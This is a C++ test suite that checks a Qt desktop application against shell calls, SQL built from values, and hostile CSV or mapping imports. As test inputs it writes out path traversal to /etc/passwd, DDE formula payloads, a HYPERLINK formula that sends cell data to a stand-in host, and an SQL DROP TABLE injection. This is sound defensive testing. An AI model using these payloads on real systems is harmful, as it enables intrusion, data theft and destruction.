// The security review of packaging/SECURITY.md as tests: no shell or process calls in the
// program's own sources, SQL text never built from values (bound parameters only, with a
// short allow-list of constant-built statements), and a hostile CSV imports as plain text,
// opens no other file and writes nothing beside the atlas.
#include "io/exporttables.h"
#include "io/importplan.h"
#include "store/atlasstore.h"
#include "support/testsupport.h"

#include <QDir>
#include <QDirIterator>
#include <QFile>
#include <QFileInfo>
#include <QRegularExpression>

#include <gtest/gtest.h>

#include <algorithm>

using namespace pa;

namespace {

// The checkout: PA_SHARED_DATA_DIR is "<checkout>/../shared/data".
QString securityProjectRoot()
{
    QString shared = QStringLiteral(PA_SHARED_DATA_DIR);
    const QString suffix = QStringLiteral("/../shared/data");
    EXPECT_TRUE(shared.endsWith(suffix)) << shared.toStdString();
    shared.chop(suffix.size());
    return shared;
}

struct SecuritySource
{
    QString path;     // relative to the checkout
    QString code;     // comments removed; string literals kept
    QString codeOnly; // comments and the contents of string and character literals removed
};

// Removes // and /* */ comments, keeping the line count, and the contents of string and
// character literals unless keepLiterals.
QString securityStripComments(const QString &text, bool keepLiterals)
{
    QString out;
    out.reserve(text.size());
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        const QChar next = i + 1 < text.size() ? text.at(i + 1) : QChar();
        const bool digitSeparator = c == QLatin1Char('\'') && i > 0 && text.at(i - 1).isDigit();
        if ((c == QLatin1Char('"') || c == QLatin1Char('\'')) && !digitSeparator) {
            // A raw string literal R"(...)" never appears in these sources; plain ones do.
            out += c;
            for (++i; i < text.size() && text.at(i) != c; ++i) {
                if (keepLiterals)
                    out += text.at(i);
                if (text.at(i) == QLatin1Char('\\') && i + 1 < text.size()) {
                    ++i;
                    if (keepLiterals)
                        out += text.at(i);
                }
            }
            if (i < text.size())
                out += c;
        } else if (c == QLatin1Char('/') && next == QLatin1Char('/')) {
            while (i < text.size() && text.at(i) != QLatin1Char('\n'))
                ++i;
            out += QLatin1Char('\n');
        } else if (c == QLatin1Char('/') && next == QLatin1Char('*')) {
            for (i += 2; i + 1 < text.size() &&
                         !(text.at(i) == QLatin1Char('*') && text.at(i + 1) == QLatin1Char('/'));
                 ++i)
                if (text.at(i) == QLatin1Char('\n'))
                    out += QLatin1Char('\n');
            ++i;
        } else {
            out += c;
        }
    }
    return out;
}

QList<SecuritySource> securitySources()
{
    const QDir root(securityProjectRoot());
    QList<SecuritySource> sources;
    for (const char *folder : {"app", "core", "ui"}) {
        QDirIterator it(root.filePath(QString::fromLatin1(folder)),
                        {QStringLiteral("*.cpp"), QStringLiteral("*.h")}, QDir::Files,
                        QDirIterator::Subdirectories);
        while (it.hasNext()) {
            const QString path = it.next();
            QFile file(path);
            EXPECT_TRUE(file.open(QIODevice::ReadOnly)) << path.toStdString();
            const QString text = QString::fromUtf8(file.readAll());
            sources.push_back({root.relativeFilePath(path), securityStripComments(text, true),
                               securityStripComments(text, false)});
        }
    }
    return sources;
}

int securityLineOf(const QString &code, qsizetype offset)
{
    return int(QStringView(code).left(offset).count(QLatin1Char('\n'))) + 1;
}

// SQL text put together from pieces, each allowed because every piece is a constant of the
// program: (file, start of the SQL literal, why).
struct SecurityAllowed
{
    const char *file;
    const char *sql;
    const char *why;
};
constexpr SecurityAllowed securityAllowList[] = {
    {"core/store/atlasstore.cpp", "PRAGMA application_id = %1",
     "PRAGMA takes no bound parameter; the value is the constant AtlasStore::applicationId"},
    {"core/store/atlasstore.cpp", "SELECT COUNT(*) FROM %1",
     "table names from a fixed list of string literals in AtlasStore::check()"},
    {"core/store/migrations.cpp", "PRAGMA user_version = %1",
     "PRAGMA takes no bound parameter; the value is the integer version of a built-in step"},
    {"core/store/storewrites.cpp", "INSERT INTO ",
     "column and :placeholder lists generated from the constant column lists of storewrites"},
    {"core/store/storewrites.cpp", "UPDATE ",
     "\"a = :a, ...\" generated from the constant column lists of storewrites"},
    {"core/store/storewrites.cpp", "DELETE FROM %1 WHERE %2 = :owner%3",
     "writeTags() is private and every caller passes literal table and column names; the "
     "optional filter is a literal; the owner and kind are bound"},
    {"core/lifecycle/lifecyclestore.cpp", "DELETE FROM %1 WHERE partnership_id = :p",
     "table names from a fixed list of literals in deleteBlueprint()"},
};

bool securityAllowed(const QString &file, const QString &sql)
{
    return std::any_of(std::begin(securityAllowList), std::end(securityAllowList),
                       [&](const SecurityAllowed &allowed) {
                           return file == QLatin1String(allowed.file) &&
                                  sql.startsWith(QLatin1String(allowed.sql));
                       });
}

} // namespace

TEST(Security, NoShellOrProcessCallsInTheProgram)
{
    // Calls that start another program or a shell, and Qt's ways to do the same.
    static const QRegularExpression call(QStringLiteral(
        R"(\b(system|_?popen|fork|vfork|exec[lv]p?e?|posix_spawnp?|ShellExecute(Ex)?[AW]?|)"
        R"(CreateProcess[AW]?|WinExec|_wsystem|_spawn[lv]p?e?)\s*\(|\bQProcess\b|)"
        R"(\bQDesktopServices\s*::\s*open)"));
    const QList<SecuritySource> sources = securitySources();
    ASSERT_GT(sources.size(), 100); // the scan did find the sources
    QStringList found;
    for (const SecuritySource &source : sources) {
        // String literals may mention such words ("system"); only code counts.
        const QString &code = source.codeOnly;
        for (auto it = call.globalMatch(code); it.hasNext();) {
            const auto match = it.next();
            found << QStringLiteral("%1:%2: %3")
                         .arg(source.path)
                         .arg(securityLineOf(code, match.capturedStart()))
                         .arg(match.captured(0));
        }
    }
    EXPECT_TRUE(found.isEmpty()) << found.join(QLatin1Char('\n')).toStdString();
}

TEST(Security, SqlTextIsNeverBuiltFromValues)
{
    // An SQL statement in a string literal that is then completed with arg() or "+": the way
    // a value would get into SQL text instead of being bound. Only the allow-list may.
    static const QRegularExpression built(QStringLiteral(
        R"re("\s*((SELECT|INSERT|UPDATE|DELETE|PRAGMA|CREATE|ALTER|DROP|REPLACE|WITH|ATTACH|)re"
        R"re(VACUUM|BEGIN|SAVEPOINT)\b([^"\\]|\\.)*)"(\s*"([^"\\]|\\.)*")*\s*\)?\s*)re"
        R"re((\.\s*arg\s*\(|\+))re"));
    static const QRegularExpression anyStatement(
        QStringLiteral(R"re("\s*(SELECT|INSERT|UPDATE|DELETE) )re"));
    QStringList found;
    int statements = 0;
    for (const SecuritySource &source : securitySources()) {
        for (auto it = anyStatement.globalMatch(source.code); it.hasNext(); it.next())
            ++statements;
        for (auto it = built.globalMatch(source.code); it.hasNext();) {
            const auto match = it.next();
            if (!securityAllowed(source.path, match.captured(1)))
                found << QStringLiteral("%1:%2: \"%3\"")
                             .arg(source.path)
                             .arg(securityLineOf(source.code, match.capturedStart()))
                             .arg(match.captured(1));
        }
    }
    EXPECT_GT(statements, 20); // the scan saw the program's SQL
    EXPECT_TRUE(found.isEmpty()) << found.join(QLatin1Char('\n')).toStdString();
}

TEST(Security, TheWindowNeverRunsSql)
{
    QStringList found;
    for (const SecuritySource &source : securitySources())
        if ((source.path.startsWith(QLatin1String("ui/")) ||
             source.path.startsWith(QLatin1String("app/gui/"))) &&
            source.code.contains(QLatin1String("QSql")))
            found << source.path;
    EXPECT_TRUE(found.isEmpty()) << found.join(QLatin1Char('\n')).toStdString();
}

TEST(Security, AHostileCsvImportsAsPlainTextAndTouchesNoOtherFile)
{
    test::TempFolder folder;
    const QString atlasPath = folder.path(QStringLiteral("hostile.atlas"));
    auto store = AtlasStore::create(atlasPath);
    // A file the hostile cells point at, relative to the CSV and as a URL.
    const QString bait = folder.path(QStringLiteral("bait.txt"));
    test::writeBytes(bait, "secret");
    const QDateTime baitTime = QFileInfo(bait).lastModified();
    const QString baitUrl = QStringLiteral("file://") + QFileInfo(bait).absoluteFilePath();

    const QStringList hostile{
        QStringLiteral("../../etc/passwd"),
        QStringLiteral("./bait.txt"),
        baitUrl,
        QStringLiteral("=cmd|' /C calc'!A0"),
        QStringLiteral("=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")"),
        QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0"),
        QStringLiteral("Robert'); DROP TABLE district; --"),
        QStringLiteral("\\\\fileserver\\share\\x.atlas"),
    };
    QByteArray csv = "Name,State,County,Notes,Goals\n";
    for (qsizetype i = 0; i < hostile.size(); ++i) {
        QString quoted = hostile.at(i);
        quoted.replace(QLatin1Char('"'), QStringLiteral("\"\""));
        csv += QStringLiteral("\"%1\",MA,\"%2\",\"%1\",\"%2\"\n")
                   .arg(quoted, QStringLiteral("County %1 ").arg(i) + quoted)
                   .toUtf8();
    }
    const QString csvPath = folder.path(QStringLiteral("hostile.csv"));
    test::writeBytes(csvPath, csv);
    // The files in the folder but SQLite's own beside the atlas, which come and go.
    const auto files = [&folder] {
        QStringList names = QDir(folder.path(QString())).entryList(QDir::Files);
        names.removeAll(QStringLiteral("hostile.atlas-wal"));
        names.removeAll(QStringLiteral("hostile.atlas-shm"));
        return names;
    };
    const QStringList before = files();

    ImportOptions options;
    options.format = ImportFormat::DistrictCsv;
    const ImportPlan plan = planImport(csvPath, store->loadAll(), options);
    ASSERT_TRUE(plan.canApply()) << plan.errors.value(0).toString().toStdString();
    ASSERT_EQ(plan.counts().added, hostile.size());
    ASSERT_TRUE(applyImportPlan(*store, plan));

    // Every cell is stored as the text it was, nothing read from where it points.
    const AtlasData data = store->loadAll();
    ASSERT_EQ(data.districts.size(), hostile.size());
    for (const QString &text : hostile) {
        const auto district = std::find_if(data.districts.cbegin(), data.districts.cend(),
                                           [&](const District &d) { return d.name == text; });
        ASSERT_NE(district, data.districts.cend()) << text.toStdString();
        EXPECT_EQ(district->notes, text);
        EXPECT_TRUE(district->county.endsWith(text)) << district->county.toStdString();
    }
    // The "DROP TABLE" name is a name; the atlas is whole.
    EXPECT_TRUE(store->check().integrityOk);
    // Nothing was written beside the atlas but SQLite's own files, and the bait is untouched.
    EXPECT_EQ(files(), before);
    EXPECT_EQ(test::readBytes(bait), QByteArray("secret"));
    EXPECT_EQ(QFileInfo(bait).lastModified(), baitTime);
    EXPECT_FALSE(QFileInfo::exists(folder.path(QStringLiteral("../../etc/passwd.atlas"))));
}

TEST(Security, AHostileMappingFileNamesNoFile)
{
    // A mapping that names paths and SQL as fields is refused with a message, not followed.
    for (const char *json : {R"({"Name": "../../etc/passwd"})", R"({"Name": "file:///etc/passwd"})",
                             R"({"Name": "name); DROP TABLE district; --"})"}) {
        ColumnMapping mapping;
        QString error;
        EXPECT_FALSE(
            ColumnMapping::fromJson(QByteArray(json), ImportFormat::DistrictCsv, mapping, error))
            << json;
        EXPECT_FALSE(error.isEmpty()) << json;
    }
}

// Enabled once core/io/exporttables.cpp neutralises formula cells (reported to the lead; see
// packaging/SECURITY.md): a spreadsheet opening an exported CSV must not run a cell that a
// hostile import put there.
TEST(Security, ExportedCsvNeutralisesFormulaCells)
{
    for (const char *cell : {"=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "@SUM(A1)",
                             "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"}) {
        const QString field = exportCsvField(QString::fromUtf8(cell));
        QString unquoted = field;
        if (unquoted.startsWith(QLatin1Char('"')))
            unquoted = unquoted.mid(1);
        EXPECT_FALSE(
            unquoted.startsWith(QLatin1Char('=')) || unquoted.startsWith(QLatin1Char('+')) ||
            unquoted.startsWith(QLatin1Char('@')) || unquoted.startsWith(QLatin1Char('-')) ||
            unquoted.startsWith(QLatin1Char('\t')) || unquoted.startsWith(QLatin1Char('\r')))
            << cell << " -> " << field.toStdString();
    }
    // Plain numbers stay numbers.
    EXPECT_EQ(exportCsvField(QStringLiteral("-119.78")), QStringLiteral("-119.78"));
}
